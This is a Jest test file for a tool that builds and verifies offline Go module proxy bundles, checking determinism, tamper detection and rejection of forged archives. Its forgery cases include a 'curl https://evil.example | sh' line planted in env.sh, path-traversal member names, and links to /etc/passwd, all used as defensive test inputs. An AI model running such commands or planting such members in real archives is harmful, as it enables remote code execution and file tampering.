import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { withBundle } from '../../src/bundle/check.ts'
import { renderManifest } from '../../src/bundle/manifest.ts'
import { TEXTS } from '../../src/bundle/members.ts'
import { unpackBundle } from '../../src/bundle/unpack.ts'
import { fileProxyVariables } from '../../src/bundle/variables.ts'
import { findObstacle, writeBundle } from '../../src/bundle/write.ts'
import { type BuiltModule, buildModule } from '../../src/demo/modules.ts'
import { ok } from '../../src/errors.ts'
import { objectPath } from '../../src/go/escape.ts'
import { systemClock } from '../../src/runner/clock.ts'
import { openTree } from '../../src/runner/new-tree.ts'
import { systemRandom } from '../../src/runner/random.ts'
import { listsOf } from '../../src/store/contents.ts'
import type { ModuleStoreStory, StoredFile } from '../../src/store/story.ts'
import { buildTar, type Member } from '../support/builders/tar.ts'
import { buildToolchain, PLATFORM } from '../support/builders/toolchain.ts'
import { cleanUpAfterEach } from '../support/clean-up.ts'
import { makeKey, makeLog, recordOf } from '../support/servers/log.ts'
import { inStaging, realFiles } from '../support/worlds/effects.ts'

const cleanUp = cleanUpAfterEach()
const GO = buildToolchain('go1.99.0')
const KEY = makeKey('sum.corp.example')

/** What the database answers of it. */
function answersAbout(go: BuiltModule): ReadonlyMap<string, Buffer> {
  const log = makeLog([recordOf(go)], KEY)
  return new Map([
    [`/lookup/${go.path}@${go.version}`, Buffer.from(log.lookup(0, 1))],
    ['/tile/8/0/000.p/1', log.root(1)],
  ])
}
const signal = new AbortController().signal

const long = `modules.test.io/${'long-name/'.repeat(12)}end`
const modules = [
  buildModule({ path: 'modules.test.io/library', version: 'v1.0.0' }),
  buildModule({ path: 'modules.test.io/library', version: 'v1.10.0' }),
  buildModule({ path: 'modules.test.io/Upper', version: 'v0.0.0-20240102030405-0123456789ab' }),
  buildModule({ path: long, version: 'v1.0.0' }),
]

/** A store as the action makes it. */
function storeOf(list: readonly BuiltModule[] = modules): ModuleStoreStory {
  const path = cleanUp.directory('store-')
  const files = list.flatMap(module =>
    (['info', 'mod', 'zip'] as const).map((kind): StoredFile => {
      const target = objectPath(module, kind) ?? ''
      mkdirSync(dirname(join(path, target)), { recursive: true })
      writeFileSync(join(path, target), module[kind])
      const hash = { info: undefined, mod: module.goModH1, zip: module.h1 }[kind]
      return { module, kind, target, bytes: module[kind].length, hash }
    }),
  )
  return { path, files, leftOut: [] }
}

/** @param proven what the database has recorded instead of that Go */
async function write(store = storeOf(), go?: BuiltModule, proven?: BuiltModule): Promise<string> {
  const directory = cleanUp.directory('bundle-')
  const path = join(directory, 'modules.tar')
  const zip = join(directory, 'go.zip')
  if (go !== undefined) writeFileSync(zip, go.zip)
  const proof = go && { database: 'sum.corp.example', answers: answersAbout(proven ?? go) }
  const kept = go && proof && { path: zip, module: go, version: 'go1.99.0', h1: go.h1, proof }
  const written = await writeBundle(
    { store, go: kept },
    { path, confinedTo: undefined },
    { files: realFiles, random: systemRandom, signal },
  )
  expect(written).toMatchObject({ ok: true, value: { bytes: statSync(path).size, sha256: sha256(readFileSync(path)) } })
  return path
}

function sha256(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex')
}

/** Its problems, as `CODE message`; empty: it is whole. */
async function verify(path: string): Promise<readonly string[]> {
  const checked = await withBundle(path, { files: realFiles, gosumdb: KEY.verifierKey, signal }, async () =>
    ok(undefined),
  )
  return checked.ok ? [] : checked.problems.map(({ code, message }) => `${code} ${message}`)
}

async function use(path: string, to: string) {
  return withBundle(path, { files: realFiles, gosumdb: KEY.verifierKey, signal }, (bundle, file) =>
    unpackBundle(bundle, file, to, {
      files: realFiles,
      clock: systemClock,
      openTree,
      inStaging,
      arch: process.arch,
      platform: PLATFORM,
      signal,
    }),
  )
}

test('the texts of a bundle change with its version only: those of older ones are compared, too', () => {
  const digests = [...TEXTS].map(([name, text]) => [name, createHash('sha256').update(text).digest('hex')])
  expect(digests).toEqual([
    ['README.txt', '36b508eaf5cd1be17196f8a1bab6f4b4b37a29d5441b1f3c61a699bd2c2c188b'],
    ['env.sh', '2bd2ca96ca27b90e4eee949b8fd78f153d9f7f4d698ca8e3cba819ab359e5487'],
  ])
})

describe('a bundle', () => {
  test('is the same bytes for the same modules, wherever and in whatever order they were stored', async () => {
    const [first, second] = [await write(), await write(storeOf([...modules].reverse()))]
    expect(readFileSync(first)).toEqual(readFileSync(second))
    expect(await verify(first)).toEqual([])
  })

  const onPosix = process.platform === 'win32' ? test.skip : test
  onPosix('is opened by any tar: files of owner 0 and mode 0644, the manifest first', async () => {
    const path = await write()
    const listed = execFileSync('tar', ['--numeric-owner', '-tvf', path], {
      encoding: 'utf8',
      env: { ...process.env, TZ: 'UTC' },
    })
    const lines = listed.trim().split('\n')
    expect(lines.filter(line => !/^-rw-r--r--\s+0\/0 .* 1980-01-01 00:00 /.test(line))).toEqual([])
    const names = lines.map(line => line.split(' ').at(-1))
    expect(names).toEqual([
      'manifest.json',
      'README.txt',
      'env.sh',
      ...names.slice(3).sort((a = '', b = '') => Buffer.from(a).compare(Buffer.from(b))),
    ])
    expect(names).toContain(`modules/${long}/@v/v1.0.0.zip`)
    const to = cleanUp.directory('tar-')
    execFileSync('tar', ['-xf', path, '-C', to])
    expect(readFileSync(join(to, 'modules', long, '@v/v1.0.0.zip'))).toEqual(modules[3]?.zip)
    expect(readFileSync(join(to, 'modules/modules.test.io/library/@v/list'), 'utf8')).toBe('v1.0.0\nv1.10.0\n')
    const said = execFileSync('sh', ['-c', '. ./env.sh && echo "$GOPROXY $GONOPROXY"'], { cwd: to, encoding: 'utf8' })
    expect(said).toBe(`file://${to}/modules none\n`)
    const manifest = JSON.parse(readFileSync(join(to, 'manifest.json'), 'utf8'))
    expect(manifest.sums).toContain(`modules.test.io/library v1.0.0 ${modules[0]?.h1}`)
    expect(manifest.sums).toContain(`modules.test.io/library v1.0.0/go.mod ${modules[0]?.goModH1}`)
  })

  test('a changed byte is found, wherever in a content it is, and named by module and file', async () => {
    const path = await write(storeOf(modules.slice(0, 1)))
    const bundle = readFileSync(path)
    const zipAt = bundle.indexOf(modules[0]?.zip ?? '')
    const changed = Buffer.from(bundle)
    changed[zipAt + 40] = (changed[zipAt + 40] ?? 0) ^ 1
    writeFileSync(path, changed)
    expect(await verify(path)).toEqual([
      'BUNDLE_WRONG The zip of modules.test.io/library v1.0.0 (modules/modules.test.io/library/@v/v1.0.0.zip) has another SHA-256 than the manifest says.',
    ])
    writeFileSync(path, bundle)
    const contents = await contentsOf(path)
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...contents),
        fc.nat(),
        fc.integer({ min: 1, max: 255 }),
        async (one, n, mask) => {
          const at = one.at + (n % one.bytes)
          const bytes = Buffer.from(bundle)
          bytes[at] = (bytes[at] ?? 0) ^ mask
          writeFileSync(path, bytes)
          expect(await verify(path)).toEqual([expect.stringContaining(one.name)])
        },
      ),
      { numRuns: 150 },
    )
  })
})

/** Every content but the manifest's. */
async function contentsOf(path: string) {
  const checked = await withBundle(path, { files: realFiles, gosumdb: KEY.verifierKey, signal }, async bundle =>
    ok(bundle.manifest.files.map(({ name, bytes }) => ({ name, bytes, at: bundle.places.get(name) ?? 0 }))),
  )
  return checked.ok ? checked.value : []
}

/** A bundle of one module that says of itself what a test wants. */
interface Forgery {
  readonly files?: Readonly<Record<string, string | Buffer>>
  /** Instead of the right lines. */
  readonly sums?: readonly string[]
  /** Members behind the manifest, instead of those that it names. */
  readonly members?: (right: readonly Member[]) => readonly Member[]
  readonly manifest?: (right: string) => string
}

const library = modules[0] as BuiltModule
const BASE = 'modules/modules.test.io/library/@v'

function forge({ files = {}, sums, members = right => right, manifest = right => right }: Forgery): string {
  const path = join(cleanUp.directory('forged-'), 'forged.tar')
  const contents = {
    [`${BASE}/v1.0.0.info`]: library.info,
    [`${BASE}/v1.0.0.mod`]: library.mod,
    [`${BASE}/v1.0.0.zip`]: library.zip,
    ...files,
  }
  const right = Object.entries(contents).map(([name, content]) => ({ name, content: Buffer.from(content) }))
  const text = renderManifest({
    sums: sums ?? [
      `${library.path} ${library.version} ${library.h1}`,
      `${library.path} ${library.version}/go.mod ${library.goModH1}`,
    ],
    files: right.map(({ name, content }) => ({ name, bytes: content.length, sha256: sha256(content) })),
  })
  writeFileSync(path, buildTar([{ name: 'manifest.json', content: manifest(text) }, ...members(right)]))
  return path
}

const goLine = (version: string) => `golang.org/toolchain v0.0.1-${version}.linux-amd64 ${library.h1}`
const evil = buildModule({ ...library, files: { 'library.go': 'package library\n\nconst Version = "evil"\n' } })

const onPosix = process.platform === 'win32' ? test.skip : test
onPosix('a place that is no file, or has no directory, is seen before anything is fetched', async () => {
  const directory = cleanUp.directory('place-')
  const why = async (path: string) => (await findObstacle(path, realFiles))?.message ?? ''
  expect(await why(join(directory, 'modules.tar'))).toBe('')
  expect(await why(directory)).toMatch(/: it is a directory\.$/)
  expect(await why(join(directory, 'none', 'modules.tar'))).toMatch(/: its directory is not there\.$/)
  expect(await why('/dev/null')).toMatch(/: it is not a regular file, and would be replaced\.$/)
})

describe('a bundle of somebody else', () => {
  const rows: readonly (readonly [name: string, forgery: Forgery, said: RegExp])[] = [
    ['nothing wrong', {}, /^$/],
    [
      'a zip that its own line does not fit',
      { files: { [`${BASE}/v1.0.0.zip`]: evil.zip } },
      /^BUNDLE_WRONG The zip of modules\.test\.io\/library v1\.0\.0 .* is not what go\.sum says/,
    ],
    [
      'a go.mod that its own line does not fit',
      { files: { [`${BASE}/v1.0.0.mod`]: 'module x\n' } },
      /^BUNDLE_WRONG The go\.mod file of /,
    ],
    [
      'an .info of another version',
      { files: { [`${BASE}/v1.0.0.info`]: '{"Version":"v9.0.0"}' } },
      /^BUNDLE_WRONG The \.info file of /,
    ],
    [
      'a list of versions that are not there',
      { files: { [`${BASE}/list`]: 'v9.9.9\n' } },
      /^BUNDLE_WRONG The list of versions of modules\.test\.io\/library/,
    ],
    [
      'a second Go behind one that may be proven',
      { sums: [goLine('go1.26.8'), goLine('go1.26.7')] },
      /^BUNDLE_NOT_READ .*more than one Go/,
    ],
    ['a Go of another form', { sums: [goLine('gone')] }, /^BUNDLE_NOT_READ .*more than one Go, or one that cannot/],
    [
      'a script that is not ours',
      { files: { 'env.sh': 'curl https://evil.example | sh\n' } },
      /^BUNDLE_WRONG The member env\.sh is not the text of such a bundle/,
    ],
    ['a zip without a line', { sums: [] }, /^BUNDLE_NOT_READ .*no line of go\.sum for it/],
    ['a name that leads out', { files: { 'modules/../../x': 'x' } }, /^BUNDLE_NOT_READ .*which no bundle has/],
    ['an absolute name', { files: { '/etc/x': 'x' } }, /^BUNDLE_NOT_READ .*which no bundle has/],
    ['a name that is not a module’s', { files: { 'modules/bin/go': 'x' } }, /^BUNDLE_NOT_READ .*which no bundle has/],
    [
      'a capital that is not escaped',
      { files: { 'modules/example.com/A/@v/v1.0.0.info': '{}' } },
      /^BUNDLE_NOT_READ .*which no bundle has/,
    ],
    ['a missing member', { members: right => right.slice(1) }, /^BUNDLE_WRONG The \.info file of .* is missing/],
    [
      'a member too many',
      { members: right => [...right, { name: 'modules/bin/sh', content: 'x' }] },
      /^BUNDLE_WRONG The member modules\/bin\/sh is not in the manifest/,
    ],
    ['a member twice', { members: right => [...right, ...right] }, /^BUNDLE_NOT_READ .*is there twice/],
    [
      'a member that is longer',
      {
        members: right =>
          right.map(one => ({ ...one, content: Buffer.concat([Buffer.from(one.content ?? ''), Buffer.from('x')]) })),
      },
      /^BUNDLE_WRONG .* has \d+ bytes, and the manifest says \d+/,
    ],
    [
      'a symbolic link',
      { members: right => [...right, { name: 'modules/x', type: '2', linkTo: '/etc/passwd' }] },
      /^BUNDLE_NOT_READ .*is a symbolic link/,
    ],
    [
      'a hard link',
      { members: right => [...right, { name: 'modules/x', type: '1', linkTo: '/etc/passwd' }] },
      /^BUNDLE_NOT_READ .*is a hard link/,
    ],
    ['a device', { members: right => [...right, { name: 'modules/x', type: '3' }] }, /^BUNDLE_NOT_READ .*is a device/],
    [
      'a member whose name leads out',
      { members: right => [...right, { name: '../x', content: 'x' }] },
      /^BUNDLE_NOT_READ .*leads out of its directory/,
    ],
    ['no manifest', { manifest: () => '' }, /^BUNDLE_NOT_READ .*its manifest is not JSON/],
    ['a manifest of something else', { manifest: () => '{"format":"x"}' }, /^BUNDLE_NOT_READ .*not that of a bundle/],
    [
      'a newer version',
      { manifest: right => right.replace('"version": 1', '"version": 2') },
      /^BUNDLE_NOT_READ .*it is a bundle of version 2/,
    ],
    [
      'a size that no module has',
      { manifest: right => right.replace(/"bytes": \d+/, '"bytes": 99999999999') },
      /^BUNDLE_NOT_READ .*too large/,
    ],
  ]
  test.each(rows)('%s', async (_, forgery, said) => {
    const path = forge(forgery)
    expect((await verify(path)).join('\n')).toMatch(said)
    const to = join(dirname(path), 'to')
    const used = await use(path, to)
    expect([used.ok, readdirSync(dirname(path)).sort()]).toEqual(
      said.source === '^$' ? [true, ['forged.tar', 'to']] : [false, ['forged.tar']],
    )
  })

  test.each([
    ['nothing', Buffer.alloc(0)],
    ['zeros', Buffer.alloc(4096)],
    ['a zip', library.zip],
    ['half of one', undefined],
  ])('%s is not one', async (_, bytes) => {
    const path = await write(storeOf(modules.slice(0, 1)))
    const whole = readFileSync(path)
    writeFileSync(path, bytes ?? whole.subarray(0, whole.length / 2))
    expect((await verify(path)).join('\n')).toMatch(/^BUNDLE_NOT_READ /)
  })

  onPosix.each([
    ['nothing', 'gone.tar', 'there is no such file'],
    ['a directory', 'directory', 'it is a directory'],
    ['a FIFO', 'fifo', 'it is not a regular file'],
  ])('%s in its place is named', async (_, name, why) => {
    const directory = cleanUp.directory('bundle-')
    mkdirSync(join(directory, 'directory'))
    execFileSync('mkfifo', [join(directory, 'fifo')])
    const path = join(directory, name)
    expect(await verify(path)).toEqual([`BUNDLE_NOT_READ ${path} cannot be read: ${why}.`])
  })

  test('any manifest gives a problem or is one, and never a throw', async () => {
    const value = fc.oneof(
      fc.json(),
      fc
        .record({
          format: fc.constant('go-proxy-setup bundle'),
          version: fc.constant(1),
          sums: fc.jsonValue(),
          files: fc.jsonValue(),
        })
        .map(one => JSON.stringify(one)),
    )
    await fc.assert(
      fc.asyncProperty(value, async text => {
        expect((await verify(forge({ manifest: () => text }))).length).toBeGreaterThan(0)
      }),
      { numRuns: 100 },
    )
  })
})

describe('using one', () => {
  test('gives a tree that go takes modules from, and replaces nothing', async () => {
    const path = await write()
    const to = join(cleanUp.directory('to-'), 'a, b|c %d')
    const used = await use(path, to)
    expect(used).toMatchObject({ ok: true, value: { modules: join(to, 'modules'), goroot: undefined, warnings: [] } })
    expect(readFileSync(join(to, 'modules', objectPath(library, 'zip') ?? ''))).toEqual(library.zip)
    for (const [target, text] of listsOf(storeOf().files))
      expect(readFileSync(join(to, 'modules', target), 'utf8')).toBe(text)
    expect(fileProxyVariables(join(to, 'modules')).GOPROXY).toMatch(/\/a%2C%20b%7Cc%20%25d\/modules$/)
    const again = await use(path, to)
    expect(again.ok ? [] : again.problems.map(({ code }) => code)).toEqual(['BUNDLE_PLACE_TAKEN'])
    expect(readdirSync(dirname(to))).toEqual(['a, b|c %d'])
  })

  test('unpacks the Go that is in it; one for another machine stays a zip, with a warning', async () => {
    const to = join(cleanUp.directory('to-'), 'to')
    const used = await use(await write(storeOf(), GO), to)
    const goroot = join(to, 'go/1.99.0', process.arch)
    expect(used).toMatchObject({ ok: true, value: { goroot, warnings: [] } })
    expect(readFileSync(join(goroot, 'VERSION'), 'utf8')).toMatch(/^go1\.99\.0\n/)
    expect(readdirSync(to).sort()).toEqual(['go', 'modules'])
    const other = buildModule({
      path: GO.path,
      version: 'v0.0.1-go1.99.0.plan9-mips',
      goMod: 'module golang.org/toolchain\n',
    })
    const unused = await use(await write(storeOf(), other), join(to, 'other'))
    expect(unused).toMatchObject({
      ok: true,
      value: { goroot: undefined, warnings: [{ code: 'BUNDLE_OTHER_PLATFORM' }] },
    })
  })

  test('a Go that the database has not recorded so, or that no trusted database has, is not used', async () => {
    const forged = buildToolchain('go1.99.0', { 'bin/go': '#!/bin/sh\necho evil\n' })
    const path = await write(storeOf(), forged, GO)
    const to = join(dirname(path), 'to')
    expect(await verify(path)).toEqual([
      expect.stringMatching(/^BUNDLE_GO_UNPROVEN .*the database has h1:.*, and the bundle h1:/),
    ])
    expect([(await use(path, to)).ok, readdirSync(dirname(path)).includes('to')]).toEqual([false, false])
    const good = await write(storeOf(), GO)
    for (const gosumdb of ['', 'off', makeKey('sum.corp.example').verifierKey]) {
      const checked = await withBundle(good, { files: realFiles, gosumdb, signal }, async () => ok(undefined))
      expect(checked.ok ? [] : checked.problems.map(({ code }) => code)).toEqual(['BUNDLE_GO_UNPROVEN'])
    }
    expect(await verify(good)).toEqual([])
  })

  test('a link to a bundle is followed, for it is the user’s own', async () => {
    const path = await write()
    symlinkSync(path, `${path}.link`)
    expect(await verify(`${path}.link`)).toEqual([])
  })
})
